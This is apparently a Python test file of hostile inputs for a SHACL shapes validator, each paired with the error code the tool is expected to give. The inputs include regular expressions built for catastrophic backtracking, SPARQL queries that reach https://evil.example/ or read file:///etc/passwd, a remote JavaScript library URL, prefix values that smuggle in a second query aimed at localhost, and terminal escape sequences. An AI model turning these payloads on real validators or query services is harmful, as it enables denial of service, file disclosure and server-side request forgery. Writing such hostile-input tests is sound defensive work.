"""Hostile shapes of others."""

from pathlib import Path
from typing import Final

from tests.hostile.case import KILO, MEGA, Case, Content, written

_PREFIXES: Final = """\
prefix : <https://example.org/shapes#>
prefix mb: <https://w3id.org/maalbar/ns#>
prefix dct: <http://purl.org/dc/terms/>
prefix sh: <http://www.w3.org/ns/shacl#>
prefix owl: <http://www.w3.org/2002/07/owl#>
prefix rdf: <http://www.w3.org/1999/02/22-rdf-syntax-ns#>
"""
_TEXT: Final = "a" * 5000 + "!"
_GOALS: Final = f"""\
stated:
  - id: https://example.org/goal/a
    type: Goal
    goalLevel: areaGoal
    description: {{nb: {_TEXT}}}
    subGoalOf: https://example.org/goal/b
  - id: https://example.org/goal/b
    type: Goal
    goalLevel: areaGoal
    description: {{nb: {_TEXT}}}
    subGoalOf: https://example.org/goal/a
"""
_NODE: Final = ":a a sh:NodeShape ; sh:targetClass mb:Goal ; "
_MORE: Final = ("--shapes", "hostile.ttl")


def _case(name: str, content: Content, *codes: str, more: tuple[str, ...] = ()) -> Case:
    def write(folder: Path) -> None:
        written(folder, "goals.yaml", _GOALS)
        said = content() if callable(content) else content
        assert isinstance(said, str)
        written(folder, "hostile.ttl", _PREFIXES + said)

    return Case(name, write, codes, ("goals.yaml", *_MORE, *more))


def _property(path: str, asks: str) -> str:
    return f"{_NODE} sh:property [ sh:path {path} ; {asks} ] ."


def _prefixed(prefix: str, namespace: str) -> str:
    """A query, and a prefix that is written before it."""
    return (
        f'{_NODE} sh:sparql [ sh:prefixes :p ; sh:select "SELECT $this {{ $this a ?c }} }}" ] .\n'
        f':p sh:declare [ sh:prefix "{prefix}" ; sh:namespace "{namespace}" ] .'
    )


def _inside(count: int) -> str:
    return _NODE + "sh:node [ " * count + "sh:minLength 1 " + "] " * count + "."


def _doubling(count: int) -> str:
    """Shapes that each ask for the next one twice, until one that nothing is."""
    asked = [
        f":s{n} a sh:NodeShape ; sh:or ( [ sh:node :s{n + 1} ] [ sh:node :s{n + 1} ] ) ."
        for n in range(count)
    ]
    return (
        f"{_NODE} sh:node :s0 .\n" + "\n".join(asked) + f"\n:s{count} a sh:NodeShape ; sh:in () ."
    )


_QUERY: Final = 'sh:sparql [ sh:select """{}""" ] .'

CASES: Final = (
    _case(
        "an expression that goes astray elsewhere",
        _property("dct:description", 'sh:pattern "^(a+)+$"'),
        "shapes/pattern",
    ),
    _case(
        "an expression that goes astray",
        _property("dct:description", 'sh:pattern "^(a|aa)+$"'),
        "shapes/pattern-too-slow",
    ),
    _case(
        "an expression that goes astray by reference",
        _property("dct:description", 'sh:pattern "^(a|aa)+$"'),
        "shapes/pattern-too-slow",
        more=("--engine", "reference"),
    ),
    _case(
        "an expression of a megabyte",
        lambda: _property("dct:description", f'sh:pattern "{"a?" * MEGA}"'),
        "shapes/unsupported",
    ),
    _case(
        "an expression that repeats a billion times",
        _property("dct:description", 'sh:pattern "((a{1000}){1000}){1000}"'),
        "shapes/unsupported",
    ),
    _case(
        "an expression that repeats a number of 4,500 digits",
        _property("dct:title", f'sh:pattern "a{{{"9" * 4500}}}"'),
        "shapes/unsupported",
    ),
    _case(
        "an expression that is none",
        _property("dct:description", 'sh:pattern "((("'),
        "shapes/unsupported",
    ),
    _case(
        "an expression of brackets in brackets",
        lambda: _property("dct:description", f'sh:pattern "{"(" * 2 * KILO}{")" * 2 * KILO}"'),
    ),
    _case("a shape that asks for itself", f"{_NODE} sh:node :a ."),
    _case(
        "shapes that ask for each other",
        f"{_NODE} sh:property :b . :b sh:path mb:subGoalOf ; sh:node :a ; sh:pattern 'x' .",
    ),
    _case("a shape that is not itself", f"{_NODE} sh:not :a ."),
    _case("sixty shapes in each other", lambda: _inside(60)),
    _case("shapes that ask for each other twice", lambda: _doubling(30), "shapes/unsupported"),
    _case("shapes that ask for each other twice, as deep as may be", lambda: _doubling(9)),
    _case(
        "a query that no one allowed",
        _NODE + _QUERY.format("SELECT $this WHERE { $this ?p ?o }"),
        "shapes/sparql-refused",
    ),
    _case(
        "a query that asks others",
        _NODE
        + _QUERY.format("SELECT $this WHERE { SERVICE <https://evil.example/> { $this ?p ?o } }"),
        "query/forbidden",
        more=("--allow-sparql",),
    ),
    _case(
        "a query from elsewhere",
        _NODE + _QUERY.format("SELECT $this FROM <file:///etc/passwd> WHERE { $this ?p ?o }"),
        "query/forbidden",
        more=("--allow-sparql",),
    ),
    _case("a query that is none", _NODE + _QUERY.format("SELEKT"), more=("--allow-sparql",)),
    _case(
        "a program in shapes",
        f'{_NODE} sh:js [ sh:jsLibrary [ sh:jsLibraryURL "https://evil.example/x.js" ] ] .',
        "shapes/unsupported",
    ),
    _case(
        "a rule in shapes",
        f"{_NODE} sh:rule [ a sh:TripleRule ; sh:subject sh:this ; sh:predicate :p ] .",
        "shapes/unsupported",
    ),
    _case(
        "shapes that import",
        f"<> owl:imports <file:///etc/passwd>, <https://evil.example/x> . {_NODE} sh:in () .",
        "shapes/imports",
    ),
    _case(
        "a list that ends in itself",
        f"{_NODE} sh:in :l . :l rdf:first 1 ; rdf:rest :l .",
        "shapes/ill-formed",
    ),
    _case(
        "a list that goes two ways",
        f"{_NODE} sh:in :l . :l rdf:first 1, 2 ; rdf:rest (), (3) .",
        "shapes/ill-formed",
    ),
    _case(
        "a list of shapes that ends in itself",
        f"{_NODE} sh:or :l . :l rdf:first [] ; rdf:rest :l .",
        "shapes/ill-formed",
    ),
    _case(
        "a path that is itself the other way",
        f"{_NODE} sh:property [ sh:path :p ; sh:minCount 1 ] . :p sh:inversePath :p .",
        "shapes/min-count",
    ),
    _case(
        "a path that is its own step",
        f"{_NODE} sh:property [ sh:path _:p ; sh:minCount 1 ] . _:p sh:inversePath _:p .",
        "shapes/ill-formed",
    ),
    _case(
        "a path that is a list that ends in itself",
        f"{_NODE} sh:property [ sh:path _:p ; sh:minCount 1 ] . _:p rdf:first :q ; rdf:rest _:p .",
        "shapes/ill-formed",
    ),
    _case(
        "a path of many steps",
        lambda: _property("( " + "mb:subGoalOf " * 10 * KILO + ")", "sh:minCount 99"),
    ),
    _case(
        "a path that repeats what repeats",
        _property("[ sh:zeroOrMorePath [ sh:zeroOrMorePath mb:subGoalOf ] ]", "sh:minCount 99"),
        "shapes/min-count",
    ),
    _case(
        "paths in paths",
        lambda: _property(
            "[ sh:zeroOrMorePath " * 60 + "mb:subGoalOf" + " ]" * 60, "sh:minCount 99"
        ),
    ),
    _case(
        "thirty thousand allowed values",
        lambda: f"{_NODE} sh:in ( {'1 ' * 30 * KILO}) .",
        "shapes/in",
    ),
    _case(
        "two thousand shapes",
        lambda: "".join(
            f":s{n} a sh:NodeShape ; sh:targetClass mb:Goal ; sh:in () .\n" for n in range(2 * KILO)
        ),
        "shapes/in",
    ),
    _case(
        "a count of a million digits", lambda: _property("dct:title", f"sh:minCount {'9' * MEGA}")
    ),
    _case(
        "a message of ten megabytes",
        lambda: f'{_NODE} sh:in () ; sh:message "{"a" * 10 * MEGA}" .',
        "shapes/in",
    ),
    _case(
        "a message that commands the terminal",
        f'{_NODE} sh:in () ; sh:message "a\\u001b[2J\\u202e" .',
        "syntax/control-character",
    ),
    _case(
        "a message with places",
        f'{_NODE} sh:in () ; sh:message "{{?this}} {{$value}} {{0}} {{value.__class__}} %s" .',
        "shapes/in",
    ),
    _case(
        "a namespace that is a query to elsewhere",
        _prefixed("a", "http://e.no/> SELECT $this { SERVICE <http://localhost:9/> { ?s ?p ?o } #"),
        "shapes/ill-formed",
        more=("--allow-sparql",),
    ),
    _case(
        "a prefix that is a query to elsewhere",
        _prefixed("a: <a:> SELECT $this FROM <http://localhost:9/> WHERE { #", "http://e.no/"),
        "shapes/ill-formed",
        more=("--allow-sparql",),
    ),
    _case("shapes that are no Turtle", "((((", "syntax/not-rdf"),
    _case(
        "a target that is a query",
        ":a a sh:NodeShape ; sh:in () ; sh:target [ a sh:SPARQLTarget ; "
        'sh:select "SELECT ?this WHERE { ?this ?p ?o }" ] .',
    ),
    _case(
        "the shapes of our own undone",
        f"<https://w3id.org/maalbar/shapes#Goal-wording> sh:deactivated true . {_NODE} sh:in () .",
        "shapes/in",
    ),
    Case(
        "shapes that are a device",
        lambda folder: written(folder, "goals.yaml", _GOALS),
        ("fetch/unreadable",),
        ("goals.yaml", "--shapes", "/dev/zero"),
    ),
    Case(
        "shapes on this machine",
        lambda folder: written(folder, "goals.yaml", _GOALS),
        ("fetch/refused-address",),
        ("goals.yaml", "--shapes", "http://localhost:9/x"),
    ),
)
